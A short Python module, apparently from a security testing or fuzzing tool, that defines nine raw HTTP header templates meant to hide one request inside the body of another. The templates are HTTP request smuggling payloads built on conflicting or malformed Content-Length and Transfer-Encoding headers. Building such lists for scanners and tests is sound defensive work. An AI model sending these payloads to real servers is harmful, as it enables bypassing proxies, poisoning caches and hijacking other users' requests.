"""Heads of requests by which one request may be hidden in the body of another; `%d` is where the body's length goes."""

HEADS = (
    b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n", b"Transfer-Encoding: xchunked\r\nContent-Length: %d\r\n",
    b"Transfer-Encoding : chunked\r\nContent-Length: %d\r\n", b"Transfer-Encoding: chunked, identity\r\nContent-Length: %d\r\n",
    b"Transfer-Encoding:\x0bchunked\r\nContent-Length: %d\r\n", b"Content-Length: 0\r\nContent-Length: %d\r\n",
    b"Content-Length: +%d\r\n", b"X: y\nTransfer-Encoding: chunked\r\nContent-Length: %d\r\n",
    b"Transfer_Encoding: chunked\r\nContent-Length: %d\r\n",
)  # fmt: skip
